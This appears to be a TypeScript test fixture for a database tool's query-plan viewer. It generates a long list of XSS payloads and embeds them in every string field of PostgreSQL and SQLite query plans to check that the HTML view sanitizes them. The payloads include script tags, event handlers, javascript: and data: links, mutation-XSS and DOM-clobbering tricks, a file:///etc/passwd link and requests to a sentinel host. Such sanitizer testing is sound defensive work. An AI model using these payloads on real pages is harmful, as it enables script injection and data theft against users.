// Hostile Markdown/HTML the model (or data quoted by it) might produce. `S` is a sentinel server on another origin:
// any request to it means something loaded or ran. Every payload calls `x()` (sets window.__xss) if it ever executes.
// Each payload carries visible text `V<n>` that must still be on screen after sanitizing.

export function xssPayloads(S: string): string[] {
  const js = (n: number) => `window.__xss=${n};fetch('${S}/js/${n}')`;
  const list: ((n: number) => string)[] = [
    (n) => `V${n} <script>${js(n)}</script>`,
    (n) => `V${n} <SCRIPT SRC=${S}/s/${n}.js></SCRIPT>`,
    (n) => `V${n} <img src=x onerror="${js(n)}">`,
    (n) => `V${n} <img src="${S}/img/${n}">`,
    (n) => `V${n} <svg onload="${js(n)}"></svg>`,
    (n) => `V${n} <svg><script>${js(n)}</script></svg>`,
    (n) => `V${n} <svg><a xlink:href="javascript:${js(n)}"><text x="0" y="10">click</text></a></svg>`,
    (n) => `V${n} <math><mtext><table><mglyph><style><img src=x onerror="${js(n)}"></style></mglyph></table></mtext></math>`,
    (n) => `V${n} <math href="javascript:${js(n)}">m</math>`,
    (n) => `V${n} [click](javascript:${js(n)})`,
    (n) => `V${n} [click](JaVaScRiPt:${js(n)})`,
    (n) => `V${n} [click](  javascript:${js(n)})`,
    (n) => `V${n} [click](java&#x09;script:${js(n)})`,
    (n) => `V${n} [click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${js(n)})`,
    (n) => `V${n} [click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
    (n) => `V${n} [click](vbscript:msgbox(${n}))`,
    (n) => `V${n} [click](file:///etc/passwd)`,
    (n) => `V${n} [click](command:workbench.action.terminal.new)`,
    (n) => `V${n} ![alt${n}](${S}/md-img/${n})`,
    (n) => `V${n} ![x](javascript:${js(n)})`,
    (n) => `V${n} ![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
    (n) => `V${n} [![img](${S}/nested/${n})](javascript:${js(n)})`,
    (n) => `V${n} [ref][r${n}]\n\n[r${n}]: javascript:${js(n)}`,
    (n) => `V${n} <a href="javascript:${js(n)}">a</a>`,
    (n) => `V${n} <a href="${S}/a/${n}" onclick="${js(n)}" onmouseover="${js(n)}">hover</a>`,
    (n) => `V${n} <div onmouseover="${js(n)}" style="position:fixed;inset:0">cover</div>`,
    (n) => `V${n} <body onload="${js(n)}">`,
    (n) => `V${n} <iframe src="javascript:${js(n)}"></iframe>`,
    (n) => `V${n} <iframe srcdoc="<script>parent.${js(n)}</script>"></iframe>`,
    (n) => `V${n} <object data="${S}/obj/${n}"></object>`,
    (n) => `V${n} <embed src="${S}/embed/${n}">`,
    (n) => `V${n} <form action="${S}/form/${n}"><button>go</button></form>`,
    (n) => `V${n} <meta http-equiv="refresh" content="0;url=${S}/meta/${n}">`,
    (n) => `V${n} <link rel="stylesheet" href="${S}/css/${n}">`,
    (n) => `V${n} <style>@import '${S}/import/${n}'; body{background:url(${S}/bg/${n})}</style>`,
    (n) => `V${n} <p style="background:url(${S}/style-attr/${n})">styled</p>`,
    (n) => `V${n} <template><img src=x onerror="${js(n)}"></template>`,
    (n) => `V${n} <noscript><p title="</noscript><img src=x onerror=${js(n)}>">`,
    (n) => `V${n} <svg><style><img src=x onerror="${js(n)}"></style></svg>`,
    (n) => `V${n} <scr<script>ipt>${js(n)}</scr</script>ipt>`,
    (n) => `V${n} <<img src=x onerror="${js(n)}">>`,
    (n) => `V${n} <img src=x onerror=${js(n)}//`,
    (n) => `V${n} &lt;script&gt;${js(n)}&lt;/script&gt;`,
    (n) => `V${n} &#60;img src=x onerror=${js(n)}&#62;`,
    (n) => `V${n} \`<script>${js(n)}</script>\``,
    (n) => `V${n}\n\n\`\`\`html\n<script>${js(n)}</script>\n<img src=x onerror="${js(n)}">\n\`\`\``,
    (n) => `V${n}\n\n\`\`\`sql" onmouseover="${js(n)}\nselect 1;\n\`\`\``,
    (n) => `V${n}\n\n\`\`\`<img src=x onerror=${js(n)}>\nselect 1;\n\`\`\``,
    (n) => `V${n} <details open ontoggle="${js(n)}"><summary>s</summary></details>`,
    (n) => `V${n} <video><source onerror="${js(n)}"></video>`,
    (n) => `V${n} <audio src=x onerror="${js(n)}"></audio>`,
    (n) => `V${n} <input autofocus onfocus="${js(n)}">`,
    (n) => `V${n} <textarea autofocus onfocus="${js(n)}"></textarea>`,
    (n) => `V${n} <marquee onstart="${js(n)}">m</marquee>`,
    (n) => `V${n} <base href="${S}/base/">[rel](x.js)`,
    (n) => `V${n} <a href="${S}/a2/${n}" data-action="setApiKey" data-testid="set-api-key" class="set-api-key">fake button</a>`,
    (n) => `V${n} <button data-action="replace">fake replace</button>`,
    (n) => `V${n} <div id="messages" data-testid="messages">clobber</div><form name="getElementById"></form>`,
    (n) => `V${n} <img name="currentScript" id="x"><a id="x" name="x" href="javascript:${js(n)}">clobber</a>`,
    (n) => `V${n} | a | b |\n|---|---|\n| <img src=x onerror="${js(n)}"> | <script>${js(n)}</script> |`,
    (n) => `V${n}\n\n> <img src=x onerror="${js(n)}">\n> [q](javascript:${js(n)})`,
    (n) => `V${n}\n\n- [ ] <img src=x onerror="${js(n)}">\n- <svg/onload=${js(n)}>`,
    (n) => `V${n} <a href="&#x6A;avascript:${js(n)}">ent</a>`,
    (n) => `V${n} <a href="jav\u0000ascript:${js(n)}">nul</a>`,
    (n) => `V${n} <img src="x" alt="\`" onerror="${js(n)}">`,
    (n) => `V${n} <!--<img src="--><img src=x onerror=${js(n)}//">`,
    (n) => `V${n} <![CDATA[<img src=x onerror=${js(n)}>]]>`,
    (n) => `V${n} <xmp><img src=x onerror=${js(n)}></xmp>`,
    (n) => `V${n} <plaintext><img src=x onerror=${js(n)}>`,
    (n) => `V${n} <object type="text/html" data="data:text/html,<script>${js(n)}</script>"></object>`,
    (n) => `V${n} <svg><animate onbegin="${js(n)}" attributeName="x" dur="1s"/></svg>`,
    (n) => `V${n} <svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${js(n)}'/></svg>#x"/></svg>`,
    (n) => `V${n} <isindex type=image src=1 onerror=${js(n)}>`,
    (n) => `V${n} <frameset onload=${js(n)}>`,
    (n) => `V${n} <table background="${S}/table-bg/${n}"><tr><td>t</td></tr></table>`,
    (n) => `V${n} <a href="${S}/ok/${n}">plain https link kept</a> [md link](https://example.com/${n})`,
  ];
  return list.map((f, i) => f(i));
}

// ---- plans ------------------------------------------------------------------------------------------------------
// Plan text is hostile data too: relation names, aliases, index names, filters, function and CTE names, trigger names
// and settings can hold anything. These plans carry one payload per node in every string field the plan model reads
// (and one in each plan-wide string field), for the plan view's webview and its HTML report.

/** The string fields of a PostgreSQL JSON plan node that the plan model reads. */
export const pgNodeStringFields = [
  'Node Type', 'Parent Relationship', 'Subplan Name', 'Relation Name', 'Schema', 'Alias', 'Index Name', 'CTE Name', 'Function Name',
  'Join Type', 'Strategy', 'Partial Mode', 'Operation', 'Scan Direction', 'Filter', 'Index Cond', 'Recheck Cond', 'Hash Cond',
  'Merge Cond', 'Join Filter', 'Sort Method', 'Sort Space Type',
] as const;
export const pgNodeListFields = ['Sort Key', 'Group Key', 'Output'] as const;

/** Payloads on one line, for formats that are line-based. */
export function xssLinePayloads(S: string): string[] {
  return xssPayloads(S).map((p) => p.replace(/\s*\n+\s*/g, ' '));
}

/**
 * EXPLAIN (ANALYZE, FORMAT JSON) of a plan whose node n carries payload n in every string field. Every other node is a
 * real `Seq Scan` (so the rules fire and quote the hostile names in their messages); the others have a hostile node type.
 */
export function xssPgJsonPlan(S: string): unknown {
  const payloads = xssPayloads(S);
  const children = payloads.map((p, i) => {
    const node: Record<string, unknown> = {};
    for (const f of pgNodeStringFields) node[f] = p;
    for (const f of pgNodeListFields) node[f] = [p, `${p} 2`];
    if (i % 2 === 0) {
      node['Node Type'] = 'Seq Scan';
      node['Parent Relationship'] = 'Member';
    }
    Object.assign(node, {
      'Startup Cost': 0, 'Total Cost': 1000 + i, 'Plan Rows': 10, 'Plan Width': 8,
      'Actual Startup Time': 0.01, 'Actual Total Time': 5 + i, 'Actual Rows': 1, 'Actual Loops': 1,
      'Rows Removed by Filter': 100_000, 'Shared Hit Blocks': 1, 'Shared Read Blocks': 500,
    });
    return node;
  });
  const last = payloads[payloads.length - 1]!;
  return [
    {
      Plan: { 'Node Type': 'Append', 'Startup Cost': 0, 'Total Cost': 1e6, 'Plan Rows': 10, 'Plan Width': 8, 'Actual Startup Time': 0.01, 'Actual Total Time': 9000, 'Actual Rows': 10, 'Actual Loops': 1, Plans: children },
      Triggers: payloads.slice(0, 3).map((p, i) => ({ 'Trigger Name': p, 'Constraint Name': i === 1 ? p : undefined, Relation: p, Time: 4000, Calls: 3 })),
      JIT: { Functions: 3, Options: { [last]: true }, Timing: { Generation: 1, Total: 5000 } },
      Settings: Object.fromEntries(payloads.slice(0, 5).map((p) => [p, p])),
      'Query Identifier': last,
      'Planning Time': 20_000,
      'Execution Time': 9000,
    },
  ];
}

/** The same payloads in PostgreSQL's text format: relation, alias, index and the condition lines. */
export function xssPgTextPlan(S: string): string {
  const lines = ['Append  (cost=0.00..1000000.00 rows=10 width=8) (actual time=0.010..9000.000 rows=10 loops=1)'];
  xssLinePayloads(S).forEach((p, i) => {
    lines.push(`  ->  Index Scan using ${p} on ${p} ${p}  (cost=0.00..${1000 + i}.00 rows=10 width=8) (actual time=0.010..${5 + i}.000 rows=1 loops=1)`);
    lines.push(`        Index Cond: (${p})`, `        Filter: (${p})`, '        Rows Removed by Filter: 100000');
  });
  lines.push('Planning Time: 1.000 ms', 'Execution Time: 9000.000 ms');
  return lines.join('\n');
}

/** SQLite EXPLAIN QUERY PLAN rows with the payloads in the detail text (table, alias and index names). */
export function xssSqliteRows(S: string): { id: number; parent: number; notused: number; detail: string }[] {
  return xssLinePayloads(S).map((p, i) => ({ id: i + 1, parent: 0, notused: 0, detail: i % 2 ? `SCAN ${p}` : `SEARCH ${p} USING INDEX ${p} (${p}=?)` }));
}
